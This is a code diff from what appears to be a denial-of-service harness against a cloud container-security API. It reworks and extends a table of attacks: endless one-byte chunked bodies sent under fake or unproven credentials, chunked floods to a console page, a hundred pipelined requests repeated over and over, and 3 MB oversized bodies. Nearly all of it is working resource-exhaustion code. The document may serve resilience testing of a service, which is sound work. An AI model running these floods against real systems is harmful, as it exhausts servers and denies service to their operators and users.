@@ -61,25 +61,29 @@ async function send(connections: number, next: () => Buffer): Promise<number> {
   return sent;
 }
 
-/** A body in chunks of one byte, of a caller whom nobody knows or who is known but proves nothing. */
-function sendBytes(secretId: string): Promise<number> {
-  const chunks = Buffer.from('1\r\nx\r\n'.repeat(10_000));
-  const start = () =>
-    Buffer.from(
-      head({
-        ...{ host: target.host, 'content-type': 'application/json', 'transfer-encoding': 'chunked' },
-        ...{ 'x-tc-action': 'ImportImageScanReport', 'x-tc-version': '2020-11-01' },
-        'x-tc-timestamp': String(Math.floor(Date.now() / 1000)),
-        authorization: `TC3-HMAC-SHA256 Credential=${secretId}/2026-01-01/tcss/tc3_request, SignedHeaders=content-type;host, Signature=00`,
-      }),
-    );
-  return onSockets(4, async (socket) => {
-    socket.write(start());
+/** Of a caller whom nobody knows or who is known but proves nothing. */
+const unproven = (secretId: string, more: Record<string, string>) =>
+  head({
+    ...{ host: target.host, 'content-type': 'application/json', 'x-tc-version': '2020-11-01', ...more },
+    'x-tc-timestamp': String(Math.floor(Date.now() / 1000)),
+    authorization: `TC3-HMAC-SHA256 Credential=${secretId}/2026-01-01/tcss/tc3_request, SignedHeaders=content-type;host, Signature=00`,
+  });
+
+/** Writes `first` to some connections and then the same again and again, whatever comes back. */
+const pour = (first: () => string, again: Buffer): Promise<number> =>
+  onSockets(4, async (socket) => {
+    socket.write(first());
     while (!socket.destroyed && !isOver())
-      if (!socket.write(chunks))
+      if (!socket.write(again))
         await new Promise((resolve) => socket.once('drain', resolve).once('close', resolve));
   });
-}
+
+const oneByteChunks = Buffer.from('1\r\nx\r\n'.repeat(10_000));
+const sendBytes = (secretId: string): Promise<number> =>
+  pour(
+    () => unproven(secretId, { 'x-tc-action': 'ImportImageScanReport', 'transfer-encoding': 'chunked' }),
+    oneByteChunks,
+  );
 
 /** Opens a connection anew whenever one is closed. */
 async function onSockets(count: number, use: (socket: Socket) => Promise<void>): Promise<number> {
@@ -123,6 +127,19 @@ const spec = {
 const attacks = {
   'one-byte chunks': () => sendBytes('AKIDNOBODY'),
   'one-byte chunks in the name of a tenant': () => sendBytes(target.tenant.secretId),
+  'one-byte chunks to a page': () =>
+    pour(
+      () => `POST /console/ HTTP/1.1\r\nhost: ${target.host}\r\ntransfer-encoding: chunked\r\n\r\n`,
+      oneByteChunks,
+    ),
+  'requests one behind the other': () => {
+    const request = unproven('AKIDNOBODY', {
+      ...{ 'x-tc-action': 'EvaluateContainerStart', 'content-length': '2' },
+    });
+    return pour(() => '', Buffer.from(`${request}{}`.repeat(100)));
+  },
+  'refused bodies': () =>
+    send(2, () => signed('ImportImageScanReport', JSON.stringify({ Report: 'x'.repeat(3 * mb) }))),
   'forms of 1 MB': () => send(4, () => form('AKIDNOBODY', 'a&'.repeat(mb / 2))),
   'forms of 1 MB in the name of a tenant': () =>
     send(4, () =>
